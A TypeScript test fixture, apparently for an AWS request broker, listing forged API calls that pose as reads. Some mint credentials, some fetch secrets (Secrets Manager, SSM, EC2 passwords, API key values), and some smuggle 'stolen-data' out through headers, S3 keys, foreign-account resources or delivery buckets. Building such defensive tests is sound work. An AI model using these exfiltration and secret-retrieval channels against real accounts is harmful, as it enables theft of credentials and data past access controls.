import { formCall, jsonCall, requestBytes } from "./broker-request.ts";
import type { WireAttempt } from "./broker-forgeries.ts";

const s3 = (
  name: string,
  target: string,
  changes: Partial<Parameters<typeof requestBytes>[0]> = {},
): WireAttempt => ({
  name,
  bytes: requestBytes({
    method: "GET",
    host: "theirs.s3.eu-central-1.amazonaws.com",
    signing: "s3",
    target,
    ...changes,
  }),
});
const logs = (operation: string, params: object) => jsonCall("logs", `Logs_20140328.${operation}`, params);
const sqs = (operation: string, params: object) =>
  jsonCall("sqs", `AmazonSQS.${operation}`, params, {
    headers: [
      ["Content-Type", "application/x-amz-json-1.0"],
      ["X-Amz-Target", `AmazonSQS.${operation}`],
    ],
  });

/** Well-formed calls that look like reads: they mint, hide, cost, leave, return secrets, or carry data out in what they ask for. */
export const readsThatAreNone: readonly WireAttempt[] = [
  {
    name: "carries out: headers that no operation reads",
    bytes: formCall("ec2", "Action=DescribeSubnets&Version=2016-11-15", {
      headers: [
        ["Content-Type", "application/x-www-form-urlencoded; charset=utf-8"],
        ["X-Amz-Meta-Note", "stolen-data"],
        ["X-Forwarded-For", "stolen-data"],
        ["Cookie", "stolen-data"],
        ["User-Agent", "stolen-data"],
        ["X-HTTP-Method-Override", "stolen-data"],
      ],
    }),
    lawful: 1,
  },
  { name: "mints: sts GetSessionToken", bytes: formCall("sts", "Action=GetSessionToken&Version=2011-06-15") },
  {
    name: "mints: sts GetFederationToken",
    bytes: formCall("sts", "Action=GetFederationToken&Version=2011-06-15&Name=x"),
  },
  {
    name: "mints: ecr GetAuthorizationToken",
    bytes: jsonCall(
      "ecr",
      "AmazonEC2ContainerRegistry_V20150921.GetAuthorizationToken",
      {},
      { host: "api.ecr.eu-central-1.amazonaws.com" },
    ),
  },
  {
    name: "mints: kms GenerateDataKey",
    bytes: jsonCall("kms", "TrentService.GenerateDataKey", { KeyId: "alias/x", KeySpec: "AES_256" }),
  },
  {
    name: "secret: GetSecretValue",
    bytes: jsonCall("secretsmanager", "secretsmanager.GetSecretValue", { SecretId: "x" }),
  },
  {
    name: "secret: GetParameter",
    bytes: jsonCall("ssm", "AmazonSSM.GetParameter", { Name: "x", WithDecryption: true }),
  },
  {
    name: "secret: ec2 GetPasswordData",
    bytes: formCall("ec2", "Action=GetPasswordData&Version=2016-11-15&InstanceId=i-0123456789abcdef0"),
  },
  {
    name: "secret: api keys with their values",
    bytes: requestBytes({
      method: "GET",
      host: "apigateway.eu-central-1.amazonaws.com",
      signing: "apigateway",
      target: "/apikeys?includeValues=true",
    }),
  },
  {
    name: "secret: ecr GetDownloadUrlForLayer",
    bytes: jsonCall(
      "ecr",
      "AmazonEC2ContainerRegistry_V20150921.GetDownloadUrlForLayer",
      { repositoryName: "r", layerDigest: "sha256:0" },
      { host: "api.ecr.eu-central-1.amazonaws.com" },
    ),
  },
  {
    name: "hides: sqs ReceiveMessage",
    bytes: sqs("ReceiveMessage", { QueueUrl: "https://sqs.eu-central-1.amazonaws.com/123456789012/q" }),
  },
  {
    name: "writes: lambda CheckpointDurableExecution",
    bytes: requestBytes({
      host: "lambda.eu-central-1.amazonaws.com",
      signing: "lambda",
      target: "/2025-12-01/durable-executions/x/checkpoint",
      headers: [["Content-Type", "application/json"]],
      body: '{"CheckpointToken":"x"}',
    }),
  },
  {
    name: "writes: ec2 GetFlowLogsIntegrationTemplate into a bucket",
    bytes: formCall(
      "ec2",
      "Action=GetFlowLogsIntegrationTemplate&Version=2016-11-15&FlowLogId=fl-1&ConfigDeliveryS3DestinationArn=arn:aws:s3:::theirs",
    ),
  },
  {
    name: "leaves: cloudformation EstimateTemplateCost",
    bytes: formCall("cloudformation", "Action=EstimateTemplateCost&Version=2010-05-15&TemplateBody=stolen"),
  },
  {
    name: "leaves: cloudfront VerifyDnsConfiguration",
    bytes: requestBytes({
      host: "cloudfront.amazonaws.com",
      signing: "cloudfront",
      region: "us-east-1",
      target: "/2020-05-31/verify-dns-configuration",
      headers: [["Content-Type", "application/xml"]],
      body: '<VerifyDnsConfigurationRequest xmlns="http://cloudfront.amazonaws.com/doc/2020-05-31/"><Domain>stolen.theirs.example</Domain><Identifier>x</Identifier></VerifyDnsConfigurationRequest>',
    }),
  },
  {
    name: "leaves: cloudtrail StartQuery with an answer for a bucket",
    bytes: jsonCall(
      "cloudtrail",
      "CloudTrail_20131101.StartQuery",
      { QueryStatement: "SELECT 1", DeliveryS3Uri: "s3://theirs/x" },
      {
        headers: [
          ["Content-Type", "application/x-amz-json-1.1"],
          ["X-Amz-Target", "com.amazonaws.cloudtrail.v20131101.CloudTrail_20131101.StartQuery"],
        ],
      },
    ),
  },
  {
    name: "streams: logs StartLiveTail",
    bytes: jsonCall(
      "logs",
      "Logs_20140328.StartLiveTail",
      { logGroupIdentifiers: ["arn:aws:logs:eu-central-1:123456789012:log-group:g"] },
      { host: "stream-logs.eu-central-1.amazonaws.com" },
    ),
  },
  {
    name: "unmasks: logs FilterLogEvents",
    bytes: logs("FilterLogEvents", { logGroupName: "g", unmask: true }),
  },
  {
    name: "carries out: a key asked of somebody else's bucket",
    bytes: s3("", "/stolen-data", { method: "HEAD" }).bytes,
  },
  s3("carries out: a prefix asked of somebody else's bucket", "/?list-type=2&prefix=stolen-data"),
  s3(
    "carries out: a marker asked of somebody else's bucket, path style",
    "/theirs?list-type=2&start-after=stolen-data",
    { host: "s3.eu-central-1.amazonaws.com" },
  ),
  s3("carries out: a version asked of somebody else's bucket", "/k?acl&versionId=stolen-data"),
  s3("carries out: an expected owner of one's own", "/?list-type=2&prefix=stolen-data", {
    headers: [["x-amz-expected-bucket-owner", "999999999999"]],
  }),
  {
    name: "carries out: a queue of another account",
    bytes: sqs("GetQueueAttributes", {
      QueueUrl: "https://sqs.eu-central-1.amazonaws.com/999999999999/stolen-data",
    }),
  },
  {
    name: "carries out: a queue's owner",
    bytes: sqs("GetQueueUrl", { QueueName: "stolen-data", QueueOwnerAWSAccountId: "999999999999" }),
  },
  {
    name: "carries out: a queue by a long way round",
    bytes: sqs("GetQueueAttributes", {
      QueueUrl: "https://sqs.eu-central-1.amazonaws.com/123456789012/../999999999999/stolen-data",
    }),
  },
  {
    name: "carries out: a key of another account",
    bytes: jsonCall("kms", "TrentService.DescribeKey", {
      KeyId: "arn:aws:kms:eu-central-1:999999999999:alias/stolen-data",
    }),
  },
  {
    name: "carries out: a topic of another account",
    bytes: formCall(
      "sns",
      "Action=GetTopicAttributes&Version=2010-03-31&TopicArn=arn:aws:sns:eu-central-1:999999999999:stolen-data",
    ),
  },
  {
    name: "carries out: a registry of another account",
    bytes: jsonCall(
      "ecr",
      "AmazonEC2ContainerRegistry_V20150921.DescribeRepositories",
      { registryId: "999999999999", repositoryNames: ["stolen-data"] },
      { host: "api.ecr.eu-central-1.amazonaws.com" },
    ),
  },
  {
    name: "carries out: a table of another account",
    bytes: jsonCall("dynamodb", "DynamoDB_20120810.DescribeTable", {
      TableName: "arn:aws:dynamodb:eu-central-1:999999999999:table/stolen-data",
    }),
  },
  {
    name: "carries out: a table by the account in the host",
    bytes: jsonCall(
      "dynamodb",
      "DynamoDB_20120810.DescribeTable",
      { TableName: "stolen-data" },
      { host: "999999999999.ddb.eu-central-1.amazonaws.com" },
    ),
  },
  {
    name: "carries out: log groups of another account",
    bytes: logs("DescribeLogGroups", {
      accountIdentifiers: ["999999999999"],
      logGroupNamePrefix: "stolen-data",
    }),
  },
  {
    name: "carries out: log groups of linked accounts",
    bytes: logs("DescribeLogGroups", { includeLinkedAccounts: true }),
  },
  {
    name: "carries out: a query over another account's logs",
    bytes: logs("StartQuery", {
      startTime: 1,
      endTime: 2,
      queryString:
        "SOURCE logGroups(namePrefix: ['x'], accountIdentifiers: ['999999999999']) | fields @message",
    }),
  },
  {
    name: "carries out: metrics of another account",
    bytes: jsonCall(
      "monitoring",
      "GraniteServiceVersion20100801.ListMetrics",
      { OwningAccount: "999999999999" },
      {
        headers: [
          ["Content-Type", "application/x-amz-json-1.0"],
          ["X-Amz-Target", "GraniteServiceVersion20100801.ListMetrics"],
        ],
      },
    ),
  },
  {
    name: "carries out: a template's address",
    bytes: formCall(
      "cloudformation",
      "Action=ValidateTemplate&Version=2010-05-15&TemplateURL=https://theirs.s3.eu-central-1.amazonaws.com/stolen-data",
    ),
  },
  {
    name: "carries out: a stack of another region",
    bytes: formCall(
      "cloudformation",
      "Action=DescribeStacks&Version=2010-05-15&StackName=arn:aws:cloudformation:ap-south-1:123456789012:stack/stolen-data/x",
    ),
  },
  {
    name: "carries out: an ARN inside a document",
    bytes: formCall(
      "iam",
      `Action=SimulateCustomPolicy&Version=2010-05-08&ActionNames.member.1=s3:GetObject&PolicyInputList.member.1=${encodeURIComponent('{"Resource":"arn:aws:sqs:eu-central-1:999999999999:stolen-data"}')}`,
      { host: "iam.amazonaws.com", region: "us-east-1" },
    ),
  },
  {
    name: "carries out: another region altogether",
    bytes: jsonCall(
      "logs",
      "Logs_20140328.DescribeLogGroups",
      { logGroupNamePrefix: "stolen-data" },
      { region: "ap-south-1" },
    ),
  },
];
